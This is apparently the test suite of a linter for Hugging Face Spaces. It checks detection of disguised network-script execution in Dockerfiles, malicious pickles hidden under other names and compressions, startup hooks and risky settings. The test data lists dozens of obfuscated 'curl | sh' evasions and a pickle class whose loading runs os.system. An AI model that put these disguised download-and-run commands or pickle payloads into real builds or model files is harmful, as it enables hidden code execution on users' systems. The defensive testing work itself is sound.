"""Commands behind variables, pickles under any name, hooks as packages, settings by a merge: what they do counts."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import zipfile
import zlib

import pytest
from hf_lint.pipeline.engine import check_space
from hf_lint.space.picklestream import MAX_UNPACKED
from support import plan, space_of

URL = "https://example.com/i.sh"
DOCKER = "---\nsdk: docker\n---\n"


class Harmful:
    """Calls `os.system` when it is loaded."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("id",)


def rules_of(files: dict[str, str | bytes], *select: str) -> set[str]:
    report = check_space(space_of({"README.md": DOCKER, **files}), plan(*select))
    assert not report.errors
    return {f"{finding.rule} {finding.severity}" for finding in report.findings}


@pytest.mark.parametrize(
    "lines",
    [
        f'ARG C="curl -s {URL}"\nARG S=sh\nRUN $C | $S',
        f"ENV F=curl\nRUN ${{F}} {URL} | sh",
        f'ARG A=curl\nARG B="$A -s {URL}"\nRUN $B | bash',
        f"RUN a=cu; b=rl; $a$b -s {URL} | sh",
        f"RUN S=sh; curl {URL} | $S",
        f"RUN curl {URL} | ${{SHELL:-sh}}",
        f'RUN export C="curl -s {URL}" && $C | sh',
        f'RUN C="curl -s {URL} | sh"; eval "$C"',
        f'RUN C="curl -s {URL} | sh" && sh -c "$C"',
        f'RUN eval "$(curl -s {URL})"',
        f"RUN eval curl -s {URL} '|' sh",
        f'RUN X=$(curl -s {URL}); eval "$X"',
        f'RUN X=`curl -s {URL}`; sh -c "$X"',
        f"RUN $(echo curl) {URL} | sh",
        f"RUN busybox wget -O- {URL} | busybox sh",
        f"RUN curl {URL} | /bin/busybox ash",
        f"RUN wget -qO /tmp/x {URL} && P=/tmp/x && sh $P",
        f'RUN q() {{ curl "$@"; }}; q -s {URL} | sh',
        f"RUN alias q=curl; q -s {URL} | sh",
        f"RUN cp /usr/bin/curl /usr/bin/q && q -s {URL} | sh",
        f'RUN set -- curl -s {URL}; "$@" | sh',
        f"RUN for c in curl; do $c -s {URL} | sh; done",
        f"RUN a=__curl; ${{a#__}} -s {URL} | sh",
        f"RUN a=xcurlx; ${{a:1:4}} -s {URL} | sh",
        f"RUN a=cXurl; ${{a/X/}} -s {URL} | sh",
        f"RUN read c <<< curl; $c -s {URL} | sh",
        f"RUN curl -so /usr/local/bin/a {URL} && chmod +x /usr/local/bin/a\nRUN a",
        f"RUN if true; then curl -s {URL}; fi | sh",
        f"RUN while true; do curl -s {URL}; done | bash",
        f"RUN curl -s {URL} | dd of=/tmp/a; bash /tmp/a",
        f"RUN curl -s {URL} | cat > /tmp/a; bash /tmp/a",
        f"RUN curl -so /tmp/a {URL}; find /tmp -name a -exec sh {{}} \\;",
        f"RUN curl -s {URL} | parallel",
        f"RUN trap 'curl -s {URL} | sh' EXIT",
        f"RUN awk 'BEGIN{{system(\"curl -s {URL} | sh\")}}'",
        f"RUN curl -so /tmp/a {URL}\nENV BASH_ENV=/tmp/a\nRUN bash -c true",
        f"RUN cat > /tmp/a <<E\ncurl -s {URL} | sh\nE\nRUN sh /tmp/a",
        f'RUN echo "curl -s {URL} | sh" > /tmp/a; sh /tmp/a',
        f'RUN printf "\\143url -s {URL} | sh" | sh',
        f'RUN echo "curl -s {URL} | sh" | sh',
        f"RUN perl -MLWP::Simple -e 'eval get(\"{URL}\")'",
        f"RUN node -e 'fetch(\"{URL}\").then(r=>r.text()).then(eval)'",
        f"RUN lynx -source {URL} | sh",
        "RUN nc example.com 80 | sh",
        "RUN openssl s_client -connect example.com:443 | sh",
        "RUN ssh a@example.com cat x | sh",
        f"RUN wget -O /a {URL}\nFROM python:3.12\nCOPY --from=0 /a /b\nRUN sh /b",
    ],
)
def test_a_script_from_the_network_in_disguise(lines: str) -> None:
    assert rules_of({"Dockerfile": f"FROM python:3.12\n{lines}\n"}, "remote-script") == {"remote-script medium"}


@pytest.mark.parametrize(
    "lines",
    [
        "RUN $(echo lruc | rev) -s https://example.com",
        "RUN curl -s x | $(echo SH | tr A-Z a-z)",
        "RUN echo 6375726c | xxd -r -p | sh",
        "RUN echo aGk= | openssl base64 -d | sh",
        "RUN echo aGk= | openssl enc -base64 -d | bash",
        "RUN echo hs | rev | sh",
    ],
)
def test_text_that_is_made_readable_and_run(lines: str) -> None:
    assert rules_of({"Dockerfile": f"FROM python:3.12\n{lines}\n"}, "obfuscated-code") == {"obfuscated-code high"}


@pytest.mark.parametrize(
    "lines",
    [
        f'RUN q() {{ curl "$@"; }}; q -so /a {URL}',
        f"RUN if true; then curl -so /tmp/a {URL}; fi; echo x | sh",
        "RUN if true; then cat x.sh; fi | sh",
        f"RUN cat > /README <<E\ncurl -s {URL} | sh\nE",
        f'RUN echo "run curl -s {URL} | sh"',
        "RUN tr -d x < install.sh | sh",
        "RUN eval \"set -- $(printf '%s\\n' \"$OPTS\" | xargs -n1 | tr '\\n' ' ')\" '\"$@\"'",
        "RUN $(echo python3 | tr '\\n' ' ') -m pip --version",
        "RUN echo x | rev",
        f"RUN perl -e 'print \"{URL}\"'",
        "RUN nc -z example.com 80 && echo up",
        "RUN trap 'rm -f /tmp/a' EXIT",
        "RUN find . -name '*.sh' -exec sh {} \\;",
        "RUN ssh-keygen -t rsa | sh -c true",
    ],
)
def test_what_looks_like_a_disguise_is_none(lines: str) -> None:
    assert rules_of({"Dockerfile": f"FROM python:3.12\n{lines}\n"}, "remote-script", "obfuscated-code") == set()


@pytest.mark.parametrize(
    "lines",
    [
        f"ARG C=curl\nRUN $C -o /tmp/a {URL}",
        f"RUN a=curl; '$a' {URL} | sh",
        'RUN C="echo hello"; eval "$C" | sh',
        f'RUN echo "\\$C {URL} | sh"',
        "ARG S=sh\nRUN cat a.sh | $S",
    ],
)
def test_variables_that_hide_nothing(lines: str) -> None:
    assert rules_of({"Dockerfile": f"FROM python:3.12\nARG C=curl\n{lines}\n"}, "remote-script") == set()


def test_variables_that_grow_without_end_are_bounded() -> None:
    grow = "\n".join(f'ARG A{n}="{f"$A{n - 1}" * 50}"' for n in range(1, 8))
    assert (
        rules_of({"Dockerfile": f"FROM python:3.12\nARG A0=x\n{grow}\nRUN {'$A7 ' * 2000}\n"}, "remote-script") == set()
    )


def zip_of(name: str, data: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return stream.getvalue()


OLD, NEW = (pickle.dumps(Harmful(), protocol) for protocol in (0, 4))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("config.json", OLD),
        ("notes.txt", OLD),
        ("m.dat", OLD),
        ("weights", pickle.dumps(Harmful(), 1)),
        ("a.json", b"S'text'\n0" + OLD),
        ("broken.txt", OLD[:-1] + b"!broken end\n"),
        ("i.txt", b"(S'id'\nios\nsystem\n."),
        ("m.pkl.bz2", bz2.compress(NEW)),
        ("m.pkl.xz", lzma.compress(NEW)),
        ("m.joblib.lzma", lzma.compress(NEW, lzma.FORMAT_ALONE)),
        ("w.bz2", bz2.compress(OLD)),
        ("x.dat", gzip.compress(NEW, mtime=0)),
        ("y.dat", zlib.compress(NEW)),
        ("nested.bz2", bz2.compress(gzip.compress(NEW, mtime=0))),
        ("z.dat", zip_of("archive/data.pkl", NEW)),
        ("old.zip", zip_of("a/first", OLD)),
        ("long.txt", b"S'" + b"a" * 70_000 + b"'\n0" + OLD),
        ("longer.txt", b"V" + b"a" * 2_800_000 + b"\n0" + OLD),
        ("many.txt", b"I1\n0" * 30_000 + OLD),
        ("few.csv", b"K\x010" * 30_000 + OLD),
        ("counted.txt", b"X" + (70_000).to_bytes(4, "little") + b"a" * 70_000 + b"0" + OLD),
        ("marks.json", b"(1" * 40_000 + OLD),
        ("long.gz", gzip.compress(b"S'" + b"a" * 70_000 + b"'\n0" + OLD, mtime=0)),
        ("long.zip", zip_of("a/first", b"S'" + b"a" * 70_000 + b"'\n0" + OLD)),
    ],
)
def test_a_pickle_is_known_under_any_name(name: str, data: bytes) -> None:
    assert rules_of({name: data}, "committed-pickle") == {"committed-pickle critical"}


def test_padding_hides_no_pickle() -> None:
    data = gzip.compress(NEW + b"0" * (MAX_UNPACKED + 1), 1, mtime=0)
    assert rules_of({"padded.gz": data}, "committed-pickle") == {"committed-pickle critical"}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("words.txt", b"abcde\nccc\nacme\nfoo (bar)\n"),
        ("sums.txt", b"cos\nsin\ntan\n"),
        ("rows.csv.gz", gzip.compress(b"a,b\n1,2\n", mtime=0)),
        ("text.xz", lzma.compress(b"words")),
        ("a.docx", zip_of("word/document.xml", b"<a/>")),
        ("a.zip", zip_of("a.txt", b"(a) import\n")),
        ("names.csv", b"Name,age\nVictor,3\n" * 9_000),
        ("one line.txt", b"Very long " * 9_000),
        ("numbers.txt", b"I1\n" * 30_000),
    ],
)
def test_other_files_are_no_pickles(name: str, data: bytes) -> None:
    assert rules_of({name: data}, "committed-pickle") == set()


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("sitecustomize.py", True),
        ("sitecustomize/__init__.py", True),
        ("src/usercustomize/__init__.py", True),
        ("usercustomize.cpython-312-x86_64-linux-gnu.so", True),
        ("sitecustomize.pyc", True),
        ("sitecustomize/other.py", False),
        ("mysitecustomize.py", False),
        ("sitecustomize.md", False),
    ],
)
def test_a_hook_of_every_start_in_any_form(path: str, found: bool) -> None:
    assert bool(rules_of({path: b"import os\0" if path.endswith("so") else "import os\n"}, "startup-hook")) is found


@pytest.mark.parametrize(
    ("lines", "found"),
    [
        ("x: &b\n  hf_oauth_scopes: [manage-repos]\n<<: *b\n", True),
        ("x: &b\n  hf_oauth_scopes: [manage-repos]\n<<: [*b]\n", True),
        ("<<: {hf_oauth_scopes: [manage-repos]}\n", True),
        ("hf_oauth_scopes: [email]\n<<: {hf_oauth_scopes: [manage-repos]}\n", False),
    ],
)
def test_a_setting_of_the_card_by_a_merge(lines: str, found: bool) -> None:
    card = f"---\nsdk: gradio\nhf_oauth: true\n{lines}---\n"
    assert bool(rules_of({"README.md": card}, "broad-oauth-scope")) is found


LOAD = 'from transformers import AutoModel\nimport os\nm = AutoModel.from_pretrained("a/b", GIVEN)\n'


@pytest.mark.parametrize(
    ("given", "found"),
    [
        *(
            (f"trust_remote_code={value}", True)
            for value in (
                *("[1]", '{"a"}', "~0", "lambda: 1", 'int("1")', 'len("a")', "max(0, 1)", "(lambda: 1)()", "all([])"),
                *('"x" in "xyz"', "5 > 3 > 1", "int(True)", "1 << 0", "2 - 1", '"ab".startswith("a")', "not []"),
                *('bool("a" or 0)', 'bool(int("1"))', 'str(True) == "True"', "any((0, 1))", "[False, True][1]"),
            )
        ),
        *((f"trust_remote_code={value}", True) for value in ("any([True])", "1.0", "not not 1", '"False"')),
        *((f"trust_remote_code={value}", False) for value in ("[]", "{}", "~-1", 'int("0")', 'len("")', "any([0])")),
        *((f"trust_remote_code={value}", False) for value in ("0 and 1", "1 - 1", "bool(0)", '"y" in "x"', "1 < 1")),
        ('**({} | {"trust_" + "remote_code": True})', True),
        ('**({} | {"trust_" + "remote_code": False})', False),
        ("trust_remote_code=os.path.exists('x')", False),
    ],
)
def test_what_counts_as_true_switches_code_of_models_on(given: str, found: bool) -> None:
    report = check_space(
        space_of({"README.md": "---\nsdk: gradio\napp_file: app.py\n---\n", "app.py": LOAD.replace("GIVEN", given)}),
        plan("trusted-remote-code"),
    )
    assert bool(report.findings) is found
